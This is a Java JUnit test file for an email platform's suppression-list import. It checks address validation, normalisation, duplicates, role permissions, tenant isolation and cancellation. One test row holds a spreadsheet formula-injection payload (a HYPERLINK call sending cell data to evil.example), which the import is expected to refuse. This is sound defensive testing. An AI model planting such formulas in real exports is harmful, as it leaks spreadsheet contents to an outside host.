package dev.mailroom.app.usecases;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.mailroom.app.testing.ConsoleWorld;
import dev.mailroom.model.access.Role;
import dev.mailroom.model.common.Actor;
import dev.mailroom.model.common.Cancellation;
import dev.mailroom.model.common.NotFound;
import dev.mailroom.model.common.PermissionDenied;
import dev.mailroom.model.suppressions.Suppression;
import dev.mailroom.model.suppressions.SuppressionReason;
import dev.mailroom.model.tenants.Tenant;
import dev.mailroom.model.validation.SuppressionImportService;
import dev.mailroom.model.validation.SuppressionImportService.Refused;
import dev.mailroom.model.validation.SuppressionImportService.Report;
import dev.mailroom.model.validation.SuppressionImportService.Row;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The suppression import use case on a real H2 store: the address checker's syntax check, row by row. */
class SuppressionImportUseCasesTest {
    private static final String DOMAIN = "send.acme.example";

    @TempDir
    Path dir;

    private ConsoleWorld world;
    private SuppressionImportService imports;
    private Tenant acme;
    private Tenant bolt;

    @BeforeEach
    void open() {
        world = ConsoleWorld.h2(dir.resolve("store"));
        imports = world.services.suppressionImport();
        acme = world.tenant("Acme");
        bolt = world.tenant("Bolt");
    }

    @AfterEach
    void close() {
        world.close();
    }

    private Report importInto(Actor actor, Tenant tenant, Row... rows) {
        return importInto(actor, tenant, new Cancellation(), rows);
    }

    private Report importInto(Actor actor, Tenant tenant, Cancellation cancel, Row... rows) {
        return imports.importRows(
                actor,
                tenant.id(),
                DOMAIN,
                List.of(rows).iterator(),
                rows.length,
                "imported from list.csv",
                p -> {},
                cancel);
    }

    private List<Suppression> listOf(Tenant tenant) {
        return world.services.suppressions().list(world.owner, tenant.id(), DOMAIN);
    }

    @Test
    void rowsThatAreNotAddressesAreRefusedWithTheirLineAndTheCheckersReason() {
        Report r = importInto(
                world.owner,
                acme,
                new Row(2, "ann@example.org"),
                new Row(3, "jane..doe@acme.com"),
                new Row(4, "=hyperlink(\"http://evil.example/?\"&a1;\"click\")@evil.example"),
                new Row(5, "jane@acme_corp.com"),
                new Row(6, "x".repeat(5_000) + "@example.org"));

        assertThat(r.imported()).isEqualTo(1);
        assertThat(r.refusedCount()).isEqualTo(4);
        assertThat(r.rows()).isEqualTo(5);
        assertThat(r.stopped()).isFalse();
        assertThat(r.refused()).extracting(Refused::line).containsExactly(3, 4, 5, 6);
        assertThat(r.refused()).allSatisfy(x -> assertThat(x.reason()).startsWith("Not an address: "));
        assertThat(r.refused().get(0).reason()).contains("dot");
        assertThat(r.refused().get(1).reason()).endsWith("It looks like a spreadsheet formula.");
        assertThat(r.refused().get(1).text()).startsWith("=hyperlink(");
        // What is shown of a huge cell is clipped, and so is the reason.
        assertThat(r.refused().get(3).text())
                .hasSize(SuppressionImportService.MAX_SHOWN_TEXT)
                .endsWith("…");
        assertThat(r.refused().get(3).reason()).hasSizeLessThan(200);
        assertThat(listOf(acme)).extracting(Suppression::address).containsExactly("ann@example.org");
    }

    @Test
    void validRowsAreStoredInTheCheckersForm() {
        Report r = importInto(
                world.owner,
                acme,
                new Row(2, "  Ann@Example.ORG "),
                new Row(3, "josé@BÜCHER.ch"),
                // "é" written as e + combining acute accent (NFD), as some Mac exports write it
                new Row(4, "e\u0301lodie@example.org"),
                // what Mailroom's own export wrote for a formula-looking address
                new Row(5, "'=1+2@example.org"));

        assertThat(r.refused()).isEmpty();
        assertThat(r.imported()).isEqualTo(4);
        List<Suppression> stored = listOf(acme);
        assertThat(stored)
                .extracting(Suppression::address)
                .containsExactlyInAnyOrder(
                        "ann@example.org", "josé@xn--bcher-kva.ch", "\u00e9lodie@example.org", "=1+2@example.org");
        assertThat(stored).allSatisfy(s -> {
            assertThat(s.reason()).isEqualTo(SuppressionReason.MANUAL);
            assertThat(s.note()).isEqualTo("imported from list.csv");
        });
    }

    @Test
    void anAddressAlreadySuppressedKeepsItsEntry() {
        world.services.suppressions().addManual(world.owner, acme.id(), DOMAIN, "gone@example.org", "asked by phone");
        Instant first = listOf(acme).get(0).since();
        world.clock.advance(Duration.ofDays(3));

        Report r = importInto(
                world.owner,
                acme,
                new Row(2, "GONE@example.org"),
                new Row(3, "new@example.org"),
                new Row(4, "new@example.org"));

        assertThat(r.imported()).isEqualTo(1);
        assertThat(r.already()).isEqualTo(2);
        Suppression kept = listOf(acme).stream()
                .filter(s -> s.address().equals("gone@example.org"))
                .findFirst()
                .orElseThrow();
        assertThat(kept.note()).isEqualTo("asked by phone");
        assertThat(kept.since()).isEqualTo(first);
    }

    @Test
    void thePermissionIsCheckedInTheUseCase() {
        Actor analyst = world.member(acme, Role.ANALYTICS, "ana.lyst@acme.example");
        assertThatThrownBy(() -> importInto(analyst, acme, new Row(2, "ann@example.org")))
                .isInstanceOf(PermissionDenied.class);
        assertThat(listOf(acme)).isEmpty();

        Actor editor = world.member(acme, Role.EDITOR, "eddie@acme.example");
        assertThat(importInto(editor, acme, new Row(2, "ann@example.org")).imported())
                .isEqualTo(1);
    }

    @Test
    void anImportStaysInItsTenant() {
        Actor boltEditor = world.member(bolt, Role.EDITOR, "eddie@bolt.example");
        // Another client's list is not even said to exist.
        assertThatThrownBy(() -> importInto(boltEditor, acme, new Row(2, "ann@example.org")))
                .isInstanceOf(NotFound.class);
        assertThat(listOf(acme)).isEmpty();

        importInto(world.owner, acme, new Row(2, "ann@example.org"));
        assertThat(listOf(acme)).hasSize(1);
        assertThat(listOf(bolt)).isEmpty();
        // Bolt importing the same address gets its own entry; Acme's stays as it was.
        assertThat(importInto(boltEditor, bolt, new Row(2, "ann@example.org")).imported())
                .isEqualTo(1);
        assertThat(listOf(bolt)).hasSize(1);
        assertThat(listOf(acme)).hasSize(1);
    }

    @Test
    void cancellingKeepsWhatWasStoredAndStopsBetweenRows() {
        Cancellation cancel = new Cancellation();
        List<Row> rows = IntStream.range(0, 50)
                .mapToObj(i -> new Row(i + 2, "r" + i + "@example.org"))
                .toList();
        List<Integer> seen = new ArrayList<>();
        Report r = imports.importRows(
                world.owner,
                acme.id(),
                DOMAIN,
                rows.iterator(),
                rows.size(),
                "imported from list.csv",
                p -> {
                    seen.add(p.done());
                    if (p.done() == 20) {
                        cancel.cancel(); // Cancel pressed while the 20th row was written
                    }
                },
                cancel);

        assertThat(r.stopped()).isTrue();
        assertThat(r.rows()).isEqualTo(20);
        assertThat(r.imported()).isEqualTo(20);
        assertThat(seen).hasSize(20).last().isEqualTo(20);
        assertThat(listOf(acme)).hasSize(20);
        // The store works on: the whole file again adds the rest and keeps the first 20 as they were.
        Report again = importInto(world.owner, acme, rows.toArray(Row[]::new));
        assertThat(again.imported()).isEqualTo(30);
        assertThat(again.already()).isEqualTo(20);
        assertThat(listOf(acme)).hasSize(50);
    }

    /** Rows are stored in chunks: a repeat in a later chunk is found, and every stored row is there once. */
    @Test
    void aFileLongerThanAChunkIsStoredWholeWithRepeatsFoundAcrossChunks() {
        List<Row> rows = new ArrayList<>();
        for (int i = 0; i < 1234; i++) {
            rows.add(new Row(i + 2, "r" + i + "@example.org"));
        }
        rows.add(new Row(1236, "R3@Example.org"));

        Report r = importInto(world.owner, acme, rows.toArray(Row[]::new));

        assertThat(r.rows()).isEqualTo(1235);
        assertThat(r.imported()).isEqualTo(1234);
        assertThat(r.already()).isEqualTo(1);
        assertThat(listOf(acme)).hasSize(1234);
    }
}
